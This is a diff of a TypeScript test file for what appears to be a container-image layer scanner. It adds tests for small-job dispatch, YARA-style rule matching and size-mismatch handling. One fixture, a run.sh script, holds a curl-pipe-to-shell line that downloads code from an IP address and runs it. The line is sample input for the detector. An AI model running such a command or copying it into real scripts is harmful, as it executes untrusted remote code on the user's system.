@@ -1,12 +1,17 @@
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { Readable } from 'node:stream';
+import { gzipSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { elf } from '../../../testkit/elf.ts';
 import { type TarItem, tar } from '../../../testkit/tar.ts';
 import { DEFAULT_LIMITS } from '../../base/limits.ts';
 import { DETECTORS } from '../../detect/index.ts';
+import { ruleSet } from '../rules/rule-set.ts';
+import { throughChannel } from './byte-channel.ts';
 import type { LayerJob } from './layer-job.ts';
+import { rulesJob } from './layer-rules.ts';
 import { runLayerJob } from './run-layer-job.ts';
 import { SmallJobs } from './small-jobs.ts';
 
@@ -42,6 +47,18 @@ function smallJobs(): { readonly small: SmallJobs; readonly sent: string[] } {
   return { small, sent };
 }
 
+function* pieces(bytes: Buffer): Generator<Buffer> {
+  for (let at = 0; at < bytes.length; at += 100_000) yield bytes.subarray(at, at + 100_000);
+}
+
+const RULE = `rule first {
+  meta:
+    id = "first" title = "A rule" why = "holds a marker" severity = "high"
+    confidence = "high" grade = "proof" category = "hidden"
+  strings: $a = "first-marker" condition: $a
+}
+`;
+
 const START: TarItem = {
   path: 'run.sh',
   data: '#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n',
@@ -70,6 +87,45 @@ describe('a small job', () => {
     expect(small.take(job)).toBe(true);
     expect(await small.run(job, undefined)).toEqual(await runLayerJob(job));
     expect(sent).toEqual(['parts']);
+  });
+
+  it('has a worker read what unpacks to much, and what rules are to be tried on', async () => {
+    const { small, sent } = smallJobs();
+    const large = jobOf({ path: 'a.gz', data: gzipSync(Buffer.alloc(32 * 1024 * 1024)) }, START);
+    expect(small.take(large)).toBe(true);
+    const outcome = await small.run(large, undefined);
+    expect(outcome).toEqual(await runLayerJob(large));
+    expect(sent).toEqual(['port']);
+    const set = ruleSet([{ name: 'a.yar', text: RULE, shipped: false }], DEFAULT_LIMITS);
+    const ruled: LayerJob = {
+      ...jobOf({ path: 'bin/a', data: elf({ extra: 'first-marker' }) }),
+      rules: rulesJob(
+        set,
+        set.rules.map(({ layer }) => layer),
+      ),
+    };
+    const tried = await small.run(ruled, undefined);
+    expect(tried.ruled?.results[0]?.hits).toHaveLength(1);
+    expect(tried).toEqual(await runLayerJob(ruled));
+    expect(sent).toEqual(['port', 'port']);
+  });
+
+  it('comes through a channel, also when more comes than was said', async () => {
+    for (const [length, wanted] of [
+      [1000, []],
+      [3_000_000, ['port']],
+    ] as const) {
+      const bytes = tar([START, { path: 'data', data: Buffer.alloc(length) }]);
+      const { small, sent } = smallJobs();
+      const outcome = await throughChannel(Readable.from(pieces(bytes)), (port) => {
+        const job: LayerJob = { ...jobOf(START), input: { kind: 'port', port }, expected: { size: 1000 } };
+        expect(small.take(job)).toBe(true);
+        return small.run(job, undefined);
+      });
+      expect(outcome.read?.compressedBytes).toBe(bytes.length);
+      expect(outcome.read?.blobUnknowns.map(({ reason }) => reason)).toEqual(['size-mismatch']);
+      expect(sent).toEqual(wanted);
+    }
   });
 
   it('is not one that is large, of unknown size, or one too many', () => {
